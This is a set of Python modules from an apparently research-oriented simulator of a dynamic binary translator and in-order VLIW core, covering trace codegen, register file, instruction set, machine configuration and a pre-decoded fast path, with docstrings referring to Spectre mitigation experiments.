    if lru:
        w(1, "raw_blocks = ctx.raw_blocks")
    for j, link in enumerate(steps):
        entry = link.entry
        w(1, "# step %d: block %#x" % (j, entry))
        if j == 0:
            # The head always executes when a dispatch reaches _flush.
            w(1, "n = it + 1")
            w(1, "block_counts[%d] = block_counts.get(%d, 0) + n"
              % (entry, entry))
        else:
            w(1, "n = it + (idx >= %d)" % j)
            w(1, "if n:")
            w(2, "block_counts[%d] = block_counts.get(%d, 0) + n"
              % (entry, entry))
        if link.branch is not None:
            pc, target = link.branch
            succ = steps[j + 1].entry if j < last else head_entry
            field = "taken" if succ == target else "not_taken"
            # Guarded passes: the recorded outcome, folded to a constant.
            w(1, "c = it + (idx > %d)" % j)
            w(1, "if c:")
            w(2, "bp = branches.get(%d)" % pc)
            w(2, "if bp is None:")
            w(3, "bp = new_branch_profile()")
            w(3, "branches[%d] = bp" % pc)
            w(2, "bp.%s += c" % field)
            # The exit execution: dynamic outcome, seam semantics.
            w(1, "if idx == %d and result.reason is not _SYSCALL:" % j)
            w(2, "bp = branches.get(%d)" % pc)
            w(2, "if bp is None:")
            w(3, "bp = new_branch_profile()")
            w(3, "branches[%d] = bp" % pc)
            w(2, "if result.next_pc == %d:" % target)
            w(3, "bp.taken += 1")
            w(2, "else:")
            w(3, "bp.not_taken += 1")
    if lru:
        w(1, "if it:")
        w(2, "for e in _entries[idx + 1:]:")
        w(3, "current = raw_blocks.pop(e, None)")
        w(3, "if current is not None:")
        w(4, "raw_blocks[e] = current")
        w(1, "for e in _entries[:idx + 1]:")
        w(2, "current = raw_blocks.pop(e, None)")
        w(2, "if current is not None:")
        w(3, "raw_blocks[e] = current")

    w(0, "def _trace_fn(core, ctx, blocks_executed):")
    if any_rollback:
        w(1, "regs = core.regs")
    w(1, "mcb_clear = core.mcb.clear")
    w(1, "max_blocks = ctx.max_blocks")
    w(1, "max_cycles = ctx.max_cycles")
    w(1, "dispatches = 0")
    w(1, "it = 0")
    w(1, "while True:")
    b = 2
    for i, link in enumerate(steps):
        w(b, "# step %d: block %#x (%s)" % (i, link.entry, link.block.kind))
        w(b, "blocks_executed += 1")
        w(b, "dispatches += 1")
        if link.can_rollback:
            w(b, "entry_regs = regs._regs[:]")
            w(b, "store_log = []")
            w(b, "try:")
            w(b + 1, "result = _fn%d(core, store_log)" % i)
            w(b, "except _RollbackSignal:")
            w(b + 1, "core._undo(entry_regs, store_log)")
            w(b + 1, "mcb_clear()")
            w(b + 1, "core.stats.rollbacks += 1")
            w(b + 1, "core.cycle += %d" % rollback_penalty)
            if link.block.recovery is None:
                # Commit everything up to the previous step (this one
                # never reached its seam), plus this step's pre-execute
                # blocks_executed increment, before raising.
                if i > 0:
                    w(b + 1, "_flush(core, ctx, it, %d, result)" % (i - 1))
                else:
                    w(b + 1, "if it:")
                    w(b + 2, "_flush(core, ctx, it - 1, %d, result)" % last)
                w(b + 1, "core.stats.blocks_executed += 1")
                w(b + 1, "raise VliwExecutionError(")
                w(b + 2, "%r)" % ("MCB conflict in block %#x with no "
                                  "recovery code" % link.entry,))
            else:
                w(b + 1, "result = core._run(_rec%d, None)" % i)
                w(b + 1, "result.rolled_back = True")
                w(b + 1, "mcb_clear()")
                w(b + 1, "core.instret += result.guest_instructions")
                w(b + 1, "_flush(core, ctx, it, %d, result)" % i)
                w(b + 1, "return ('rollback', result, %d, "
                  "blocks_executed, dispatches)" % i)
        else:
            # No MCB-speculative loads: rollback statically elided.
            w(b, "result = _fn%d(core, None)" % i)
        w(b, "mcb_clear()")
        w(b, "core.instret += result.guest_instructions")
        w(b, "if result.reason is _SYSCALL:")
        w(b + 1, "_flush(core, ctx, it, %d, result)" % i)
        w(b + 1, "return ('syscall', result, %d, blocks_executed, "
          "dispatches)" % i)
        w(b, "if blocks_executed >= max_blocks or core.cycle >= "
          "max_cycles:")
        w(b + 1, "_flush(core, ctx, it, %d, result)" % i)
        w(b + 1, "return ('budget', result, %d, blocks_executed, "
          "dispatches)" % i)
        succ = steps[i + 1].entry if i < last else head_entry
        w(b, "if result.next_pc != %d:" % succ)
        w(b + 1, "_flush(core, ctx, it, %d, result)" % i)
        w(b + 1, "return ('cont', result, %d, blocks_executed, "
          "dispatches)" % i)
    w(b, "it += 1")
    return "\n".join(lines) + "\n"


def trace_persist_key(steps, loop: bool, lru: bool,
                      rollback_penalty: int,
                      policy: str) -> Optional[str]:
    """Persistent-cache key of one compiled trace, or ``None`` when any
    constituent block is itself unpersistable.

    Keyed on the per-step block persist keys (which already cover block
    content, ``VliwConfig``, policy, generator and bytecode versions)
    plus everything else the driver source bakes in.
    """
    h = hashlib.sha256()
    h.update(b"repro-trace/%d\n" % TRACE_VERSION)
    h.update(b"codegen/%d\n" % CODEGEN_VERSION)
    h.update(importlib.util.MAGIC_NUMBER)
    h.update(("%s %s\n" % (sys.implementation.name,
                           sys.version_info[:3])).encode())
    h.update(("loop=%r lru=%r penalty=%d policy=%s\n"
              % (loop, lru, rollback_penalty, policy)).encode())
    for link in steps:
        fblock = link.fblock
        if fblock is None or fblock.persist_key is None:
            return None
        h.update(("step:%#x:%r:%r:%r:%s\n" % (
            link.entry, link.branch, link.can_rollback,
            link.block.recovery is not None,
            fblock.persist_key)).encode())
    return h.hexdigest()


def compile_trace(steps, loop: bool, lru: bool, config,
                  stats: Optional[CodegenStats] = None,
                  persistent=None, policy: str = ""):
    """Compile a recorded chain (tuple of ``ChainLink``) into one
    megablock driver.

    Every step must be a non-first-pass translation whose finalized form
    is already compiled (``fblock.compiled``); the driver binds those
    functions directly.  Returns ``(fn, key, persist_hit)`` — like
    :func:`compile_block` plus whether the driver came from the
    persistent cache.
    """
    source = _trace_source(steps, loop, lru, config.rollback_penalty)
    key = None
    code = None
    if persistent is not None:
        key = trace_persist_key(steps, loop, lru,
                                config.rollback_penalty, policy)
    if key is not None:
        code = persistent.load(key)
        if stats is not None:
            stats.quarantined = persistent.quarantined
    persist_hit = code is not None
    if persist_hit:
        if stats is not None:
            stats.persist_hits += 1
    else:
        filename = "<repro-trace:%#x:%d>" % (steps[0].entry, len(steps))
        code = compile(source, filename, "exec")
        if stats is not None:
            stats.compiles += 1
            stats.bytes += len(source)
        if key is not None:
            persistent.store(key, code, len(source))
            if stats is not None:
                stats.persist_stores += 1
    namespace = _runtime_namespace({})
    for i, link in enumerate(steps):
        namespace["_fn%d" % i] = link.fblock.compiled
        namespace["_rec%d" % i] = link.block.recovery
    exec(code, namespace)
    return namespace["_trace_fn"], key, persist_hit
