"""VLIW physical register file.

Physical registers 0-31 mirror the guest architectural registers (the DBT
uses an identity mapping for committed state, so block boundaries always
find guest values in their architectural homes).  Registers 32 and up are
the *hidden* registers of the paper: scratch space for speculatively
executed operations, invisible to the guest ISA and dropped at block
boundaries.
"""

from __future__ import annotations

from typing import List

from ..interp.state import MASK64

ARCH_WINDOW = 32


class VliwRegisterFile:
    """Flat physical register file with an architectural window."""

    __slots__ = ("_regs", "size")

    def __init__(self, size: int = 64):
        if size < ARCH_WINDOW + 1:
            raise ValueError("register file too small: %d" % size)
        self.size = size
        self._regs: List[int] = [0] * size

    def read(self, index: int) -> int:
        """Read physical register ``index`` (r0 is hardwired to zero)."""
        return self._regs[index]

    def write(self, index: int, value: int) -> None:
        """Write physical register ``index``; writes to r0 are discarded."""
        if index != 0:
            self._regs[index] = value & MASK64

    # ------------------------------------------------------------------
    # Architectural window.
    # ------------------------------------------------------------------

    def architectural(self) -> List[int]:
        """Snapshot of the guest-visible registers."""
        return self._regs[:ARCH_WINDOW]

    def load_architectural(self, values: List[int]) -> None:
        """Install guest register values into the architectural window."""
        if len(values) != ARCH_WINDOW:
            raise ValueError("expected %d architectural values" % ARCH_WINDOW)
        self._regs[:ARCH_WINDOW] = [v & MASK64 for v in values]
        self._regs[0] = 0

    def snapshot(self) -> List[int]:
        """Full physical snapshot (for MCB rollback)."""
        return list(self._regs)

    def restore(self, snapshot: List[int]) -> None:
        """Restore a full physical snapshot."""
        if len(snapshot) != self.size:
            raise ValueError("snapshot size mismatch")
        self._regs = list(snapshot)
