"""Translated-code container executed by the VLIW core.

A :class:`TranslatedBlock` is the unit the DBT engine installs in the
translation cache: a straight-line sequence of bundles covering one guest
basic block or superblock, plus the metadata the pipeline and the
experiments need (speculation counts, an optional non-speculative
*recovery* variant for MCB rollback).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Tuple

from .bundle import Bundle
from .isa import VliwOp, VliwOpcode


@dataclass
class TranslatedBlock:
    """One entry of the translation cache."""

    #: Guest address this block translates.
    guest_entry: int
    bundles: Tuple[Bundle, ...]
    #: Number of guest instructions covered (profiling/metrics).
    guest_length: int = 0
    #: Kind of translation: 'firstpass' or 'optimized'.
    kind: str = "firstpass"
    #: Non-speculative variant executed after an MCB rollback.  ``None``
    #: when the block contains no memory speculation.
    recovery: Optional["TranslatedBlock"] = None
    #: Guest addresses of the side-exit targets (diagnostics).
    exits: Tuple[int, ...] = ()
    #: Statistics filled in by the scheduler.
    speculative_loads: int = 0
    branch_hoisted_ops: int = 0
    spectre_patterns_found: int = 0
    mitigations_applied: int = 0

    def __post_init__(self) -> None:
        if not self.bundles:
            raise ValueError("a translated block needs at least one bundle")

    @property
    def num_bundles(self) -> int:
        return len(self.bundles)

    @property
    def num_ops(self) -> int:
        return sum(len(bundle) for bundle in self.bundles)

    @property
    def uses_memory_speculation(self) -> bool:
        return self.speculative_loads > 0

    def ops(self) -> List[VliwOp]:
        """All ops in schedule order (bundle-major)."""
        return [op for bundle in self.bundles for op in bundle]

    def terminates(self) -> bool:
        """Whether the last bundle contains an unconditional exit."""
        for op in self.bundles[-1]:
            if op.opcode in (VliwOpcode.JUMP, VliwOpcode.JUMPR, VliwOpcode.SYSCALL):
                return True
        return False

    def describe(self) -> str:
        """Multi-line schedule listing (one line per bundle)."""
        lines = ["block @ %#x (%s, %d bundles, %d guest insts)" % (
            self.guest_entry, self.kind, self.num_bundles, self.guest_length,
        )]
        for index, bundle in enumerate(self.bundles):
            lines.append("  %3d: %s" % (index, bundle.describe()))
        return "\n".join(lines)
