"""The in-order VLIW target core.

Explicitly parallel ISA (with speculative-load opcodes and hidden
registers), bundle model, machine configuration, Memory Conflict Buffer,
and the scoreboarded cycle-level pipeline that executes DBT output.
"""

from .block import TranslatedBlock
from .bundle import Bundle, BundleError, assign_slots, fits, make_bundle
from .config import DEFAULT_SLOTS, UnitClass, VliwConfig, wide_config
from .fastpath import FinalizedBlock, finalize_block
from .isa import Condition, VliwOp, VliwOpcode
from .mcb import McbConflict, McbEntry, MemoryConflictBuffer
from .pipeline import (
    BlockResult,
    CoreStats,
    ExecutionTrace,
    ExitReason,
    TraceEvent,
    VliwCore,
    VliwExecutionError,
)
from .regfile import ARCH_WINDOW, VliwRegisterFile

__all__ = [
    "ARCH_WINDOW",
    "BlockResult",
    "Bundle",
    "BundleError",
    "Condition",
    "CoreStats",
    "DEFAULT_SLOTS",
    "ExecutionTrace",
    "ExitReason",
    "FinalizedBlock",
    "finalize_block",
    "McbConflict",
    "McbEntry",
    "MemoryConflictBuffer",
    "TraceEvent",
    "TranslatedBlock",
    "UnitClass",
    "VliwConfig",
    "VliwCore",
    "VliwExecutionError",
    "VliwOp",
    "VliwOpcode",
    "VliwRegisterFile",
    "assign_slots",
    "fits",
    "make_bundle",
    "wide_config",
]
