"""Host-execution fast path: pre-decoded (finalized) translated blocks.

The seed interpreter in ``VliwCore._run`` walks dataclass ``VliwOp``
objects on every issue: per-op ``sources()`` tuple building, attribute
chains (``op.opcode``/``op.src1``/...), enum identity dispatch through a
long ``if/elif`` ladder, and a per-bundle ``source_values`` list
comprehension.  None of that work depends on run-time state — it is all
a pure function of the block and the machine configuration — so this
module performs it **once per translation**, in the spirit of the DBT
itself (translate cold code once, then execute the lowered form): a
meta-DBT step applied to our own translated code.

``finalize_block`` lowers a :class:`~repro.vliw.block.TranslatedBlock`
into a :class:`FinalizedBlock` whose bundles are flat tuples::

    (decoded ops, read regs, stall sources, serializing?, op count, bundle)

* *decoded ops* — per-op tuples led by a small-int opcode ordinal (the
  ``ORD_*`` constants) followed by exactly the pre-computed operands the
  executor needs: resolved ALU callables, masked immediates, per-op unit
  latencies from ``config.latencies``, MCB metadata, branch-condition
  callables;
* *read regs* — two physical register indices per op (``0`` when a
  source is absent; ``r0`` always reads zero), sampled in one pass
  before any op writes, preserving the VLIW read-before-write phase;
* *stall sources* — the distinct non-zero sources of the whole bundle
  (scoreboard stalling is a commutative ``max``, so order and duplicates
  are irrelevant);
* *serializing?* — whether the bundle holds ``rdcycle``/``fence``,
  which drain the scoreboard at issue.

The executor (``VliwCore._run_fast``) dispatches on the leading ordinal
with plain integer comparisons and never touches a ``VliwOp`` again.

The non-negotiable invariant (enforced by
``tests/platform/test_fastpath_differential.py``): executing the
finalized form is **bit-identical** to the seed interpreter — cycles,
stalls, rollbacks, architectural state and recovered attack bytes — for
every mitigation policy.  Finalization must therefore never reorder,
merge or drop work; it only pre-computes representation.
"""

from __future__ import annotations

from typing import List, Optional, Tuple

from ..interp.alu import OPERATIONS
from ..interp.state import MASK64, to_signed
from .block import TranslatedBlock
from .config import VliwConfig
from .isa import Condition, VliwOpcode

# Opcode ordinals of the finalized form, owned by ``repro.vliw.ordinals``
# (shared with the tier-3 codegen) and re-exported here for backwards
# compatibility.  ALU is split by operand kind so the executor needs no
# per-issue "is src2 a register?" test.  Writing ops fold the scoreboard
# destination into ``dest``: ``VliwOp`` semantics make the register
# write and the ready-time update share the same "dest is a real
# register" condition.
from .ordinals import (  # noqa: F401  (re-exported)
    ORD_ALU_RI,
    ORD_ALU_RR,
    ORD_BRANCH,
    ORD_CFLUSH,
    ORD_FENCE,
    ORD_JUMP,
    ORD_JUMPR,
    ORD_LI,
    ORD_LOAD,
    ORD_MOV,
    ORD_RDCYCLE,
    ORD_RDINSTRET,
    ORD_STORE,
    ORD_SYSCALL,
)

#: Branch condition -> predicate.  Mirrors the pipeline's table but is
#: owned here so finalization does not import the pipeline (which
#: imports us).
CONDITION_EVAL = {
    Condition.EQ: lambda a, b: a == b,
    Condition.NE: lambda a, b: a != b,
    Condition.LT: lambda a, b: to_signed(a) < to_signed(b),
    Condition.GE: lambda a, b: to_signed(a) >= to_signed(b),
    Condition.LTU: lambda a, b: a < b,
    Condition.GEU: lambda a, b: a >= b,
}


class FinalizedBlock:
    """Flattened, pre-decoded executable form of one translated block.

    Consumed directly by ``VliwCore._run_fast``; immutable after
    construction.
    """

    __slots__ = ("block", "bundles", "guest_entry", "guest_length",
                 "recovery", "config", "compiled", "persist_key")

    def __init__(self, block: TranslatedBlock, config: VliwConfig):
        self.block = block
        self.config = config
        self.guest_entry = block.guest_entry
        self.guest_length = block.guest_length
        self.bundles: Tuple[tuple, ...] = tuple(
            _finalize_bundle(bundle, config) for bundle in block.bundles
        )
        #: Recovery variant, finalized eagerly so a rollback never pays a
        #: finalization hiccup mid-experiment.
        self.recovery: Optional["FinalizedBlock"] = (
            finalize_block(block.recovery, config)
            if block.recovery is not None else None
        )
        #: Tier-3 compiled form (``repro.vliw.codegen``): a specialized
        #: host function ``fn(core, store_log) -> BlockResult``, attached
        #: at translation-cache install and dropped whenever the
        #: translation leaves the cache.
        self.compiled = None
        #: Persistent codegen-cache key of ``compiled`` (set when a
        #: persistent cache produced or stored it), so eviction can drop
        #: the on-disk entry together with the in-memory function.
        self.persist_key: Optional[str] = None


def _finalize_bundle(bundle, config: VliwConfig) -> tuple:
    """Lower one bundle into the executor's flat tuple form."""
    dops: List[tuple] = []
    reads: List[int] = []
    stall_sources: List[int] = []
    serialize = False
    latencies = config.latencies
    for op in bundle:
        reads.append(op.src1 or 0)
        reads.append(op.src2 or 0)
        for src in op.sources():
            if src != 0 and src not in stall_sources:
                stall_sources.append(src)
        if op.opcode in (VliwOpcode.RDCYCLE, VliwOpcode.FENCE):
            serialize = True
        dops.append(_finalize_op(op, latencies))
    return (tuple(dops), tuple(reads), tuple(stall_sources), serialize,
            len(dops), bundle)


def _finalize_op(op, latencies) -> tuple:
    opcode = op.opcode
    if opcode is VliwOpcode.ALU:
        fn = OPERATIONS[op.alu_op]
        latency = latencies[op.unit]
        if op.src2 is not None:
            return (ORD_ALU_RR, fn, op.dest, latency)
        return (ORD_ALU_RI, fn, op.dest, op.imm & MASK64, latency)
    if opcode is VliwOpcode.LI:
        return (ORD_LI, op.dest, op.imm & MASK64, latencies[op.unit])
    if opcode is VliwOpcode.MOV:
        return (ORD_MOV, op.dest, latencies[op.unit])
    if opcode is VliwOpcode.LOAD:
        return (ORD_LOAD, op.dest, op.imm, op.width, op.signed,
                op.speculative, op.spec_tag, op.origin or 0)
    if opcode is VliwOpcode.STORE:
        return (ORD_STORE, op.imm, op.width, op.mcb_releases)
    if opcode is VliwOpcode.CFLUSH:
        return (ORD_CFLUSH, op.imm)
    if opcode is VliwOpcode.FENCE:
        return (ORD_FENCE,)
    if opcode is VliwOpcode.RDCYCLE:
        return (ORD_RDCYCLE, op.dest, latencies[op.unit])
    if opcode is VliwOpcode.RDINSTRET:
        return (ORD_RDINSTRET, op.dest, latencies[op.unit])
    if opcode is VliwOpcode.BRANCH:
        return (ORD_BRANCH, CONDITION_EVAL[op.condition], op.target,
                (op.origin or 0) + 1)
    if opcode is VliwOpcode.JUMP:
        return (ORD_JUMP, op.target)
    if opcode is VliwOpcode.JUMPR:
        return (ORD_JUMPR, op.imm)
    if opcode is VliwOpcode.SYSCALL:
        return (ORD_SYSCALL, op.target if op.target is not None else 0)
    raise ValueError("unhandled opcode during finalization: %r" % opcode)


def finalize_block(block: TranslatedBlock, config: VliwConfig) -> FinalizedBlock:
    """Return the finalized form of ``block`` for ``config``, cached.

    The finalized form is memoized on the block itself (keyed by config
    identity), so the translation cache can finalize at install time and
    the core still transparently finalizes blocks handed to it directly
    (unit tests, ad-hoc harnesses) on first execution.
    """
    cached = getattr(block, "_finalized", None)
    if cached is not None and cached.config is config:
        return cached
    finalized = FinalizedBlock(block, config)
    block._finalized = finalized
    return finalized
