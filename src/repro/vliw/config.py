"""Machine configuration of the in-order VLIW core.

The default machine mirrors the published Hybrid-DBT prototype: a 4-issue
VLIW with one memory unit, one multiplier and a branch unit, a register
file twice the size of the guest's (the upper half being the *hidden*
registers the DBT uses for speculation), and a Memory Conflict Buffer for
memory-dependency speculation.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Dict, FrozenSet, Tuple

from ..mem.cache import CacheConfig


class UnitClass(enum.Enum):
    """Functional-unit classes an operation may require."""

    ALU = "alu"
    MUL = "mul"
    DIV = "div"
    MEM = "mem"
    BRANCH = "branch"
    SYSTEM = "system"


#: Issue-slot capability sets for the default 4-wide machine.  Slot 0 is
#: the control slot, slot 1 the memory slot, slot 2 the multiply slot.
DEFAULT_SLOTS: Tuple[FrozenSet[UnitClass], ...] = (
    frozenset({UnitClass.ALU, UnitClass.BRANCH, UnitClass.SYSTEM}),
    frozenset({UnitClass.ALU, UnitClass.MEM}),
    frozenset({UnitClass.ALU, UnitClass.MUL, UnitClass.DIV}),
    frozenset({UnitClass.ALU}),
)


def _default_latencies() -> Dict[UnitClass, int]:
    return {
        UnitClass.ALU: 1,
        UnitClass.MUL: 3,
        UnitClass.DIV: 18,
        UnitClass.MEM: 0,  # memory latency comes from the cache model
        UnitClass.BRANCH: 1,
        UnitClass.SYSTEM: 1,
    }


@dataclass(frozen=True)
class VliwConfig:
    """Static description of the VLIW machine."""

    #: Capability set of each issue slot; its length is the issue width.
    slots: Tuple[FrozenSet[UnitClass], ...] = DEFAULT_SLOTS
    #: Total physical registers; the first 32 mirror the guest ISA
    #: registers, the rest are hidden (speculation) registers.
    num_registers: int = 64
    #: Producer-to-consumer latency per unit class (cycles).
    latencies: Dict[UnitClass, int] = field(default_factory=_default_latencies)
    #: Cycles lost on a taken trace side-exit (pipeline redirect).
    exit_penalty: int = 2
    #: Cycles lost when the MCB detects a conflict and triggers recovery.
    rollback_penalty: int = 12
    #: Number of in-flight speculative loads the MCB can track.
    mcb_entries: int = 16
    #: Data-cache geometry/latencies.
    cache: CacheConfig = field(default_factory=CacheConfig)

    def __post_init__(self) -> None:
        if not self.slots:
            raise ValueError("machine needs at least one issue slot")
        if self.num_registers < 33:
            raise ValueError("need the 32 architectural registers plus hidden ones")
        if self.mcb_entries < 1:
            raise ValueError("MCB needs at least one entry")

    @property
    def issue_width(self) -> int:
        return len(self.slots)

    @property
    def num_hidden_registers(self) -> int:
        return self.num_registers - 32

    def hidden_registers(self) -> range:
        """Physical indices of the hidden (non-ISA) registers."""
        return range(32, self.num_registers)

    def slots_for(self, unit: UnitClass) -> Tuple[int, ...]:
        """Issue-slot indices able to execute ``unit`` operations."""
        # Memoised per config: the scheduler's slot matcher asks for this
        # on every placement attempt and the answer never changes.
        cache = self.__dict__.get("_slots_by_unit")
        if cache is None:
            cache = {
                u: tuple(i for i, caps in enumerate(self.slots) if u in caps)
                for u in UnitClass
            }
            object.__setattr__(self, "_slots_by_unit", cache)
        return cache[unit]


def wide_config(issue_width: int = 8) -> VliwConfig:
    """A wider machine (Denver/Carmel-flavoured): 2 mem, 2 mul slots."""
    if issue_width < 4:
        raise ValueError("wide configuration needs at least 4 slots")
    slots = [
        frozenset({UnitClass.ALU, UnitClass.BRANCH, UnitClass.SYSTEM}),
        frozenset({UnitClass.ALU, UnitClass.MEM}),
        frozenset({UnitClass.ALU, UnitClass.MEM}),
        frozenset({UnitClass.ALU, UnitClass.MUL, UnitClass.DIV}),
    ]
    while len(slots) < issue_width - 1:
        slots.append(frozenset({UnitClass.ALU}))
    slots.append(frozenset({UnitClass.ALU, UnitClass.MUL}))
    return VliwConfig(slots=tuple(slots), num_registers=96)
