"""VLIW target instruction set.

The DBT engine emits these operations; they are *explicitly parallel*
(grouped into bundles) and reference the VLIW physical register file
(architectural registers 0-31 plus hidden registers).  Two details are
load-bearing for the paper:

* speculative loads carry ``speculative=True`` — "those speculative memory
  operations are clearly identified in the binaries (i.e., using a
  distinct opcode in the VLIW ISA)" — and are tracked by the Memory
  Conflict Buffer;
* loads/ALU ops hoisted above a conditional branch write *hidden*
  registers, with an explicit ``MOV`` committing the value at the
  original program point.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field, replace
from typing import Optional, Tuple

from ..interp.alu import OPERATIONS
from .config import UnitClass


class VliwOpcode(enum.Enum):
    """Operation kinds of the VLIW ISA."""

    ALU = "alu"          # dest = op(src1, src2|imm)
    LI = "li"            # dest = imm (64-bit materialisation)
    MOV = "mov"          # dest = src1 (commit / copy)
    LOAD = "load"        # dest = mem[src1 + imm]
    STORE = "store"      # mem[src1 + imm] = src2
    CFLUSH = "cflush"    # flush cache line at src1 + imm
    FENCE = "fence"      # scheduling barrier (runtime no-op)
    BRANCH = "branch"    # trace side-exit if cmp(src1, src2)
    JUMP = "jump"        # unconditional trace exit to target
    JUMPR = "jumpr"      # indirect trace exit to src1 + imm
    SYSCALL = "syscall"  # trace exit into the platform's ecall handler
    RDCYCLE = "rdcycle"  # dest = core cycle counter
    RDINSTRET = "rdinstret"  # dest = retired guest instruction counter


#: Branch condition codes (mirroring the guest branch mnemonics).
class Condition(enum.Enum):
    EQ = "eq"
    NE = "ne"
    LT = "lt"
    GE = "ge"
    LTU = "ltu"
    GEU = "geu"

    def negated(self) -> "Condition":
        return _NEGATION[self]


_NEGATION = {
    Condition.EQ: Condition.NE,
    Condition.NE: Condition.EQ,
    Condition.LT: Condition.GE,
    Condition.GE: Condition.LT,
    Condition.LTU: Condition.GEU,
    Condition.GEU: Condition.LTU,
}


@dataclass(frozen=True, slots=True)
class VliwOp:
    """One VLIW operation.

    ``dest``/``src1``/``src2`` are physical register indices; ``imm`` is
    the immediate (ALU second operand when ``src2 is None``, memory
    offset, jump target...).
    """

    opcode: VliwOpcode
    #: ALU sub-operation name (key into the shared ALU table).
    alu_op: Optional[str] = None
    dest: Optional[int] = None
    src1: Optional[int] = None
    src2: Optional[int] = None
    imm: int = 0
    #: LOAD only: access width in bytes and signedness.
    width: int = 8
    signed: bool = True
    #: LOAD only: memory-dependency speculation (MCB-checked "ld.spec").
    speculative: bool = False
    #: LOAD only: MCB tag identifying this speculative load's entry.
    spec_tag: int = 0
    #: STORE only: tags of speculative loads whose *release point* this
    #: store is — their MCB entries are dropped after this store's own
    #: address check passes (classic MCB check semantics).
    mcb_releases: Tuple[int, ...] = ()
    #: BRANCH only: condition; JUMP/BRANCH: guest-PC exit target.
    condition: Optional[Condition] = None
    target: Optional[int] = None
    #: Index of the originating guest instruction inside its IR block
    #: (diagnostics; lets traces be mapped back to guest code).
    origin: Optional[int] = field(default=None, compare=False)

    def __post_init__(self) -> None:
        if self.opcode is VliwOpcode.ALU:
            if self.alu_op not in OPERATIONS:
                raise ValueError("unknown ALU op: %r" % (self.alu_op,))
            if self.dest is None or self.src1 is None:
                raise ValueError("ALU op needs dest and src1")
        if self.opcode is VliwOpcode.BRANCH and self.condition is None:
            raise ValueError("branch needs a condition")
        if self.opcode in (VliwOpcode.BRANCH, VliwOpcode.JUMP) and self.target is None:
            raise ValueError("%s needs a guest target" % self.opcode.value)
        if self.speculative and self.opcode is not VliwOpcode.LOAD:
            raise ValueError("only loads can be MCB-speculative")

    # ------------------------------------------------------------------
    # Classification.
    # ------------------------------------------------------------------

    @property
    def unit(self) -> UnitClass:
        """Functional-unit class this operation occupies."""
        if self.opcode in (VliwOpcode.LOAD, VliwOpcode.STORE, VliwOpcode.CFLUSH):
            return UnitClass.MEM
        if self.opcode is VliwOpcode.ALU:
            if self.alu_op in _MUL_OPS:
                return UnitClass.MUL
            if self.alu_op in _DIV_OPS:
                return UnitClass.DIV
            return UnitClass.ALU
        if self.opcode in (VliwOpcode.BRANCH, VliwOpcode.JUMP, VliwOpcode.JUMPR):
            return UnitClass.BRANCH
        if self.opcode in (VliwOpcode.SYSCALL, VliwOpcode.RDCYCLE, VliwOpcode.RDINSTRET):
            return UnitClass.SYSTEM
        return UnitClass.ALU  # LI, MOV, FENCE

    @property
    def is_exit(self) -> bool:
        """Whether this op can leave the translated block."""
        return self.opcode in (
            VliwOpcode.BRANCH, VliwOpcode.JUMP, VliwOpcode.JUMPR, VliwOpcode.SYSCALL,
        )

    @property
    def is_memory(self) -> bool:
        return self.opcode in (VliwOpcode.LOAD, VliwOpcode.STORE, VliwOpcode.CFLUSH)

    def sources(self) -> Tuple[int, ...]:
        """Physical registers read by this op."""
        regs = []
        if self.src1 is not None:
            regs.append(self.src1)
        if self.src2 is not None:
            regs.append(self.src2)
        return tuple(regs)

    def destination(self) -> Optional[int]:
        """Physical register written, or None."""
        if self.dest is not None and self.dest != 0:
            return self.dest
        return None

    def as_speculative(self, tag: int = 0) -> "VliwOp":
        """A copy of this load marked as MCB-speculative."""
        if self.opcode is not VliwOpcode.LOAD:
            raise ValueError("only loads can become speculative")
        return replace(self, speculative=True, spec_tag=tag)

    def with_releases(self, tags: Tuple[int, ...]) -> "VliwOp":
        """A copy of this store releasing the given MCB tags."""
        if self.opcode is not VliwOpcode.STORE:
            raise ValueError("only stores release MCB entries")
        return replace(self, mcb_releases=tags)

    def with_dest(self, dest: int) -> "VliwOp":
        """A copy writing ``dest`` instead (hidden-register renaming)."""
        return replace(self, dest=dest)

    def describe(self) -> str:
        """Compact human-readable rendering (trace dumps)."""
        op = self.opcode
        if op is VliwOpcode.ALU:
            rhs = "r%d" % self.src2 if self.src2 is not None else str(self.imm)
            return "%s r%d, r%d, %s" % (self.alu_op, self.dest, self.src1, rhs)
        if op is VliwOpcode.LI:
            return "li r%d, %d" % (self.dest, self.imm)
        if op is VliwOpcode.MOV:
            return "mov r%d, r%d" % (self.dest, self.src1)
        if op is VliwOpcode.LOAD:
            name = "ld.spec" if self.speculative else "ld"
            return "%s%d r%d, %d(r%d)" % (name, self.width * 8, self.dest, self.imm, self.src1)
        if op is VliwOpcode.STORE:
            return "st%d r%d, %d(r%d)" % (self.width * 8, self.src2, self.imm, self.src1)
        if op is VliwOpcode.CFLUSH:
            return "cflush %d(r%d)" % (self.imm, self.src1)
        if op is VliwOpcode.BRANCH:
            return "br.%s r%d, r%d -> %#x" % (
                self.condition.value, self.src1, self.src2, self.target,
            )
        if op is VliwOpcode.JUMP:
            return "jump -> %#x" % self.target
        if op is VliwOpcode.JUMPR:
            return "jumpr r%d + %d" % (self.src1, self.imm)
        if op is VliwOpcode.RDCYCLE:
            return "rdcycle r%d" % self.dest
        if op is VliwOpcode.RDINSTRET:
            return "rdinstret r%d" % self.dest
        return op.value


_MUL_OPS = frozenset({"mul", "mulh", "mulhsu", "mulhu", "mulw"})
_DIV_OPS = frozenset({"div", "divu", "rem", "remu", "divw", "divuw", "remw", "remuw"})
