"""Opcode ordinals of the finalized (pre-decoded) block form.

Owned here — and only here — because two producers/consumers share the
table: ``repro.vliw.fastpath`` assigns ordinals when lowering a
``TranslatedBlock`` into flat tuples, and ``repro.vliw.codegen`` reads
them back when compiling a finalized block into specialized host
Python.  Keeping the constants in a leaf module breaks the import
cycle the pair would otherwise form (fastpath must not import the
codegen, which must not re-derive the encoding).

The per-ordinal tuple layouts are documented next to each constant;
they are part of the finalized form's ABI and bumping them requires a
``repro.vliw.codegen.CODEGEN_VERSION`` bump so persisted compiled code
is invalidated.
"""

from __future__ import annotations

ORD_ALU_RR = 0    # (ord, fn, dest, latency)             result = fn(v1, v2)
ORD_ALU_RI = 1    # (ord, fn, dest, imm_masked, latency) result = fn(v1, imm)
ORD_LI = 2        # (ord, dest, imm_masked, latency)
ORD_MOV = 3       # (ord, dest, latency)                 result = v1
ORD_LOAD = 4      # (ord, dest, imm, width, signed, spec, tag, origin)
ORD_STORE = 5     # (ord, imm, width, mcb_releases)      value = v2
